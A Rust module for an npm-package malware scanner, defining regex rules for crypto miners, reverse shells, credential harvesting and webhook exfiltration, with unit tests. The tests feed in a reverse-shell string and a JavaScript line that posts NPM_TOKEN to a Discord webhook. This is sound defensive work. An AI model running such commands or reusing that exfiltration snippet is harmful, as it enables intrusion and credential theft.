//! # Rule Engine
//!
//! Pattern-driven detector over a catalog of [`Rule`]s (spec §4.3.1). Each
//! rule carries an ordered list of case-insensitive, multiline regular
//! expressions; a match on pattern `p` occurring `k` times in one artifact
//! emits a threat with `confidence = clamp(threshold + 0.1·k, 0, 0.95)`. When
//! two or more of a rule's patterns match the same artifact, an additional
//! `AGGREGATE_<RULE>` threat is emitted summarizing how much of the rule
//! fired.
//!
//! Invalid regexes (a malformed custom rule supplied via configuration) are
//! logged and skipped rather than aborting the scan.

use regex::Regex;
use scanner_core::{Confidence, PackageRef, Rule, RuleSet, Severity, Threat, ThreatKind};

struct CompiledRule {
    rule: Rule,
    patterns: Vec<Regex>,
}

/// Applies a [`RuleSet`] to artifact content.
pub struct RuleEngine {
    compiled: Vec<CompiledRule>,
}

impl RuleEngine {
    #[must_use]
    pub fn new(rules: RuleSet) -> Self {
        let compiled = rules
            .rules()
            .iter()
            .map(|rule| {
                let patterns = rule
                    .patterns
                    .iter()
                    .filter_map(|pattern| match Regex::new(&format!("(?mi){pattern}")) {
                        Ok(re) => Some(re),
                        Err(err) => {
                            tracing::warn!(rule = %rule.name, pattern = %pattern, error = %err, "skipping invalid rule pattern");
                            None
                        }
                    })
                    .collect();
                CompiledRule { rule: rule.clone(), patterns }
            })
            .collect();
        Self { compiled }
    }

    /// The built-in rule catalog: npm-malware signatures not better expressed
    /// as an AST visitor (cryptomining beacons, reverse shells, credential
    /// exfiltration over chat webhooks).
    #[must_use]
    pub fn default_rules() -> RuleSet {
        RuleSet::new(vec![
            Rule::new("crypto-miner", Severity::High, 0.6)
                .with_description("embedded cryptocurrency mining beacon")
                .with_pattern(r"coinhive")
                .with_pattern(r"cryptonight")
                .with_pattern(r"stratum\+tcp://"),
            Rule::new("reverse-shell", Severity::Critical, 0.7)
                .with_description("interactive reverse shell invocation")
                .with_pattern(r"nc\s+-e\s+/bin/")
                .with_pattern(r"/bin/sh\s+-i")
                .with_pattern(r"bash\s+-i\s*>&\s*/dev/tcp/"),
            Rule::new("credential-harvest", Severity::High, 0.5)
                .with_description("reads credential material or secret environment variables")
                .with_pattern(r"process\.env\.(AWS_SECRET_ACCESS_KEY|NPM_TOKEN|GITHUB_TOKEN|GH_TOKEN)")
                .with_pattern(r"\.ssh/id_rsa")
                .with_pattern(r"\.aws/credentials"),
            Rule::new("exfil-webhook", Severity::Medium, 0.4)
                .with_description("posts data to a third-party webhook or paste service")
                .with_pattern(r"discord(app)?\.com/api/webhooks")
                .with_pattern(r"pastebin\.com/raw")
                .with_pattern(r"hookbin\.com"),
        ])
    }

    /// Evaluate the rule catalog against one artifact's textual content.
    #[must_use]
    pub fn evaluate(&self, package: &PackageRef, file_path: &str, content: &str) -> Vec<Threat> {
        let mut threats = Vec::new();

        for compiled in &self.compiled {
            let mut matched_patterns = 0usize;

            for pattern in &compiled.patterns {
                let k = pattern.find_iter(content).count();
                if k == 0 {
                    continue;
                }
                matched_patterns += 1;
                let confidence = (compiled.rule.confidence_threshold + 0.1 * k as f64)
                    .clamp(0.0, Confidence::CEILING);
                threats.push(
                    Threat::new(
                        ThreatKind::enhanced_rule(&compiled.rule.name),
                        compiled.rule.severity,
                        confidence,
                        format!(
                            "rule '{}' matched {k} time(s): {}",
                            compiled.rule.name, compiled.rule.description
                        ),
                        package.clone(),
                    )
                    .with_location(file_path, None)
                    .with_sample(pattern.as_str()),
                );
            }

            let total = compiled.patterns.len();
            if total > 0 && matched_patterns >= 2 {
                let confidence = (0.8 * (matched_patterns as f64 / total as f64))
                    .clamp(0.0, Confidence::CEILING);
                threats.push(
                    Threat::new(
                        ThreatKind::aggregate(&compiled.rule.name),
                        compiled.rule.severity,
                        confidence,
                        format!(
                            "rule '{}' matched {matched_patterns}/{total} patterns",
                            compiled.rule.name
                        ),
                        package.clone(),
                    )
                    .with_location(file_path, None),
                );
            }
        }

        threats
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn package() -> PackageRef {
        PackageRef::file("index.js")
    }

    #[test]
    fn single_pattern_match_scales_confidence_with_count() {
        let engine = RuleEngine::new(RuleSet::new(vec![Rule::new("crypto-miner", Severity::High, 0.6)
            .with_pattern("coinhive")]));
        let threats = engine.evaluate(&package(), "index.js", "coinhive coinhive coinhive");
        assert_eq!(threats.len(), 1);
        assert_eq!(threats[0].kind, ThreatKind::enhanced_rule("crypto-miner"));
        assert!((threats[0].confidence.value() - 0.9).abs() < 1e-9);
    }

    #[test]
    fn confidence_clamps_at_ceiling() {
        let engine = RuleEngine::new(RuleSet::new(vec![Rule::new("r", Severity::Low, 0.9)
            .with_pattern("x")]));
        let threats = engine.evaluate(&package(), "f.js", "x x x x x x x x");
        assert_eq!(threats[0].confidence.value(), Confidence::CEILING);
    }

    #[test]
    fn two_matching_patterns_emit_an_aggregate_threat() {
        let rule = Rule::new("reverse-shell", Severity::Critical, 0.7)
            .with_pattern("nc -e /bin/sh")
            .with_pattern(r"/bin/sh -i")
            .with_pattern("bash -i >& /dev/tcp/");
        let engine = RuleEngine::new(RuleSet::new(vec![rule]));
        let content = "nc -e /bin/sh && /bin/sh -i";
        let threats = engine.evaluate(&package(), "f.js", content);

        assert!(threats.iter().any(|t| t.kind == ThreatKind::aggregate("reverse-shell")));
        let per_pattern = threats
            .iter()
            .filter(|t| t.kind == ThreatKind::enhanced_rule("reverse-shell"))
            .count();
        assert_eq!(per_pattern, 2);
    }

    #[test]
    fn single_match_never_emits_an_aggregate() {
        let rules = RuleSet::new(vec![Rule::new("crypto-miner", Severity::High, 0.6).with_pattern("coinhive")]);
        let engine = RuleEngine::new(rules);
        let threats = engine.evaluate(&package(), "f.js", "coinhive");
        assert!(!threats.iter().any(|t| matches!(t.kind, ThreatKind::Aggregate(_))));
    }

    #[test]
    fn invalid_regex_is_skipped_not_fatal() {
        let rule = Rule::new("broken", Severity::Low, 0.5).with_pattern("(unclosed");
        let engine = RuleEngine::new(RuleSet::new(vec![rule]));
        let threats = engine.evaluate(&package(), "f.js", "(unclosed");
        assert!(threats.is_empty());
    }

    #[test]
    fn default_rules_catch_known_npm_malware_signatures() {
        let engine = RuleEngine::new(RuleEngine::default_rules());
        let threats = engine.evaluate(
            &package(),
            "index.js",
            "fetch(process.env.NPM_TOKEN).then(r => r.text()).then(t => fetch('https://discordapp.com/api/webhooks/x/y', {body: t}))",
        );
        assert!(threats.iter().any(|t| t.kind == ThreatKind::enhanced_rule("credential-harvest")));
        assert!(threats.iter().any(|t| t.kind == ThreatKind::enhanced_rule("exfil-webhook")));
    }
}
